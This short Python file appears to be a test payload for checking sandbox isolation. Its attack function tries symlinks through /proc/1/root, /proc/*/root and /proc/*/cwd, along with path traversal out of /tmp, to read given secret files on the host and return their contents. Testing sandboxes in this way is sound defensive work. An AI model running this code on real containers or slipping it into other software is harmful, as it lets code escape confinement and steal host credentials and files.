# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""Symlink and /proc/*/root tricks to reach the host filesystem; report what was readable."""

import os


def attack(secret_paths):
    found = {}
    roots = ["/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/cwd/.."]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            roots += [f"/proc/{pid}/root", f"/proc/{pid}/cwd"]
    for root in roots:
        for secret in secret_paths:
            link = f"/tmp/link{len(found)}"
            try:
                os.symlink(root + secret, link)
            except OSError:
                continue
            try:
                with open(link, "rb") as handle:
                    found[root + secret] = handle.read(200).decode(errors="replace")
            except OSError:
                pass
            finally:
                os.unlink(link)
    for secret in secret_paths:
        try:
            with open("/tmp/../../../.." + secret, "rb") as handle:
                found[secret] = handle.read(200).decode(errors="replace")
        except OSError:
            pass
    return found
